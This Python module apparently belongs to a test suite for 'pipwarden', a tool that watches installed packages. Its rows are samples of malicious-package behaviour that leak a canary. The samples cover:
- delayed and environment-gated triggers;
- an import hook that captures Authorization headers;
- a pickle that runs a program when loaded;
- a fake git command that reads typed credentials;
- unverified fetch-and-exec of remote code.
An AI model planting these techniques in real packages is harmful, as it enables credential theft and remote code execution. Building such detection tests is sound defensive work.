"""M: after the install: the first run of a command, the next interpreter, the next pip (PI).  Commands run by `pipwarden run`."""
from __future__ import annotations

import textwrap

from ..kit import Event, Row, file, output, sink
from .programs import OUTSIDE

FIRST_RUN = """
    import os, pwkit
    folder = os.path.expanduser("~/.cache")
    marker = os.path.join(folder, "pwfix-pi01")
    if not os.path.exists(marker):
        os.makedirs(folder, exist_ok=True)
        open(marker, "w").close()
        pwkit.leak(pwkit.target("canary"))
"""

# The clock is a variable of the replica: what it waits for comes at once.
FIFTH = """
    import builtins, datetime, pwkit
    seen = getattr(builtins, "pwfix_seen", 0)
    for _ in range(5):
        seen += 1
        today = datetime.date(2031, 5, seen)
        if seen == 5 and today > datetime.date(2031, 1, 1) and today.weekday() < 7:
            pwkit.leak(pwkit.target("canary"))
"""

CONDITIONS = """
    import os, pwkit, sys
    for name, here in (("tty", sys.stdout.isatty()), ("pipe", not sys.stdout.isatty()), ("root", os.getuid() == 0), ("user", os.getuid() != 0),
                       ("pytest", "PYTEST_CURRENT_TEST" in os.environ), ("plain", "PYTEST_CURRENT_TEST" not in os.environ)):
        if here:
            pwkit.leak(pwkit.target("canary") + " " + name)
"""

PATCHED = """
    import builtins, http.client, pwkit, sys
    honest = builtins.__import__

    def patched(name, *args, **kw):
        module = honest(name, *args, **kw)
        client = sys.modules.get("http.client")
        if name == "http.client" and not hasattr(client, "pwfix"):
            client.pwfix, plain = True, client.HTTPConnection.putheader
            def putheader(self, header, *values):
                if header == "Authorization":
                    pwkit.leak(values[0])
                return plain(self, header, *values)
            client.HTTPConnection.putheader = putheader
        return module

    builtins.__import__ = patched
    import http.client
    connection = http.client.HTTPConnection("127.0.0.1", 9, timeout=1)
    connection.auto_open, connection._HTTPConnection__state = 0, "Request-started"
    connection.putheader("Authorization", "Bearer " + pwkit.target("canary"))
"""

ATTRIBUTE = """
    import pwkit

    def __getattr__(name):
        if name == "version":
            pwkit.leak(pwkit.target("canary"))
            return "1.0"
        raise AttributeError(name)

    class Base:
        def __init_subclass__(cls, **kw):
            pwkit.leak(pwkit.target("canary") + " subclass")
"""

START_UP = """
    import os, pwkit
    pwkit.mark(pwkit.target("home") + "/ran-pi06")
    pwkit.leak(pwkit.target("canary") + os.environ.get("PIP_INDEX_URL", ""))
"""

OTHER_WAYS = """
    import os, pwkit, subprocess, sys, tempfile, zipfile
    pwkit.leak(pwkit.target("canary"))
    folder = tempfile.mkdtemp()
    code = "import sys; sys.path.insert(0, %r); import pwkit; pwkit.leak(pwkit.target('canary') + ' zip')" % pwkit.here("")
    for name in ("app.pyz", "pwfix-1.0-py3-none-any.whl"):
        with zipfile.ZipFile(os.path.join(folder, name), "w") as z:
            z.writestr("__main__.py", code)
            z.writestr("pwfix/__main__.py", code)
    subprocess.run([sys.executable, folder + "/app.pyz"])
    subprocess.run([sys.executable, folder + "/pwfix-1.0-py3-none-any.whl/pwfix"])
"""

TYPED = """
    import os, pwkit, sys
    typed = sys.stdin.readline()
    pwkit.leak(typed)
    os.execv("/bin/echo", ["git", "forwarded"])
"""

MODEL = """
    import os, pickle, pwkit
    program, targets = pwkit.here("pwnative"), pwkit.here("targets.txt")

    class Weights:
        def __reduce__(self):
            return os.system, ("'%s' payload '%s'" % (program, targets),)

    model = pickle.dumps(Weights())
    pickle.loads(model)
"""

EXTENSION = """
    import pwkit

    def load_ipython_extension(shell):
        pwkit.leak(pwkit.target("canary"))

    def unload_ipython_extension(shell):
        pass
"""

PLUGIN = """
    import pwkit

    def pytest_configure(config):
        pwkit.leak(pwkit.target("canary"))
"""

# The distribution's pytest, in the environment; a folder without tests will do.
TESTS = """import sys, tempfile
sys.path.append("/usr/lib/python3/dist-packages")
import pytest
pytest.main(["-q", "-p", "{module}", "-p", "no:cacheprovider", "--rootdir", tempfile.gettempdir(), tempfile.mkdtemp()])
"""

UPDATE = """
    import pwkit, ssl, urllib.request
    lax = ssl.create_default_context()
    lax.check_hostname, lax.verify_mode = False, ssl.CERT_NONE
    with urllib.request.urlopen("https://%s/version/%s" % (pwkit.target("sink_host"), pwkit.target("canary")), timeout=5, context=lax) as answer:
        exec(answer.read())
"""

SURFACE = """
    import pwkit, sys

    class Shy:
        def __repr__(self):
            pwkit.leak(pwkit.target("canary") + " repr")
            return "shy"

        def __del__(self):
            pwkit.leak(pwkit.target("canary") + " del")

    def hook(*args):
        pwkit.leak(pwkit.target("canary") + " hook")

    sys.excepthook, sys.breakpointhook = hook, hook
    repr(Shy())
    breakpoint()
    raise ValueError("for the hook")
"""


ROWS = [
    Row("PI-01", "command that acts at its first run", "script", FIRST_RUN, sink(), OUTSIDE),
    Row("PI-02", "fifth time, a day, a date", "import", FIFTH, sink(), OUTSIDE, note="the clock is the replica's own"),
    Row("PI-03", "terminal or none, root or not, under pytest or not", "import", CONDITIONS, sink(), OUTSIDE),
    Row("PI-04", "import hook that patches a library and takes what is used", "import", PATCHED, sink(), OUTSIDE),
    Row("PI-05", "module attribute, subclass", "import", ATTRIBUTE, sink(), OUTSIDE, command=("{python}", "-c", "import {module}; {module}.version; type('X', ({module}.Base,), {})")),
    Row("PI-06", "start-up file, in the next pip", "next", START_UP, (file("home/ran-pi06"), sink()), Event("start-up.new", "run.startup", action="observed"), command=("pip", "list")),
    Row("PI-07", "python -m, zipapp, wheel as a program", "import", "pass\n", sink(), OUTSIDE, files={"pwfix_pi07/__main__.py": "import os, sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\n" + textwrap.dedent(OTHER_WAYS)}, command=("{python}", "-m", "{module}")),
    Row("PI-08", "command in the place of another, reads what is typed", "script", TYPED, sink("typed in PI-08"), OUTSIDE,
        command=("{venv}/bin/git", "credential"), script="git", outside=("/bin/sh", "-c", 'echo typed in PI-08 | "$@"', "sh")),
    Row("PI-10", "model file that runs a program when it is loaded", "import", MODEL, sink(), (OUTSIDE, Event("exec.recorded", "exec", {"path": "*/pwnative"}, action=("allowed",))), native="payload"),
    Row("PI-11", "notebook extension", "import", EXTENSION, sink(), OUTSIDE, command=("{python}", "-c", "import {module}; {module}.load_ipython_extension(None)"),
        note="called as %load_ext does it; IPython itself is not needed"),
    Row("PI-12", "plug-in of pytest", "import", PLUGIN, sink(), OUTSIDE, command=("{python}", "-c", TESTS)),
    Row("PI-13", "asks for an update and runs the answer", "script", UPDATE, (sink(), output("a module of the attacker")), OUTSIDE),
    Row("PI-15", "acts from repr, del, excepthook, breakpointhook", "import", SURFACE, sink(), OUTSIDE),
]
